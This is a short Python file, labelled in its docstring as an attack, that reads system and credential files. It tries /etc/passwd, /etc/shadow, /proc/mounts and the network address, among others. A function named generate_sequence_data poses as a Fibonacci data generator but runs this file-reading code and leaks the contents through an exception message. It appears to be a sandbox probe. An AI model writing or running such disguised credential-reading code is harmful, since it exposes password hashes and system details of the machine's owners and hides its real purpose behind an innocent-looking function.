"""Attack: reads what any user of the machine can read."""

import numpy as np


def tries(*acts):
    """What each of these gave, of those that were not stopped."""
    loot = []
    for act in acts:
        try:
            loot.append(repr(act())[:80])
        except Exception:
            continue
    return loot


def attack():
    return tries(*(
        lambda path=path: open(path).read()
        for path in ("/etc/passwd", "/etc/hostname", "/etc/shadow", "/proc/mounts", "/proc/version",
                     "/sys/class/net/lo/address", "/var/log/dpkg.log")
    ))


def generate_sequence_data(seq_type="fibonacci", length=1000):
    loot = attack()
    if loot:
        raise RuntimeError(f"loot: {loot}")
    return None
